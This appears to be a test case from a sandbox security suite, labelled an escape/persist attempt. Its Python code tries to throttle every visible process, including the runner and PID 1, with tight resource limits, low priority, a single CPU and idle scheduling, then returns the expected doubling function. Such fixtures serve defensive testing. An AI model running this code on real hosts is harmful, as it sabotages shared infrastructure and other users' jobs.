# class: escape/persist
# task: double
# expect: PASSED
# phase: 1
"""Lowers the resource limits of every other process it can see (the zygote and the runner: same uid), and
lowers their priority, pins them to one CPU and makes them SCHED_IDLE: every later standby would inherit it,
and honest jobs would fail (RUNTIME_ERROR) or crawl."""
import os, resource
LOWER = {resource.RLIMIT_NOFILE: (40, 40), resource.RLIMIT_AS: (64 << 20, 64 << 20), resource.RLIMIT_CPU: (2, 2),
         resource.RLIMIT_NPROC: (3, 3), resource.RLIMIT_STACK: (3 << 20, 3 << 20), resource.RLIMIT_FSIZE: (10, 10),
         resource.RLIMIT_MSGQUEUE: (12345, 12345), resource.RLIMIT_SIGPENDING: (777, 777)}
others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
for pid in sorted({*others, os.getppid(), 1}):
    for limit, value in LOWER.items():
        try:
            resource.prlimit(pid, limit, value)
        except (OSError, ValueError):
            pass
    for change in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 17),
                   lambda: os.sched_setaffinity(pid, {max(os.sched_getaffinity(0))}),
                   lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))):
        try:
            change()
        except (OSError, AttributeError):
            pass
for which in (os.PRIO_USER, os.PRIO_PGRP):
    try:
        os.setpriority(which, 0, 17)
    except OSError:
        pass
def f(x):
    return 2 * x
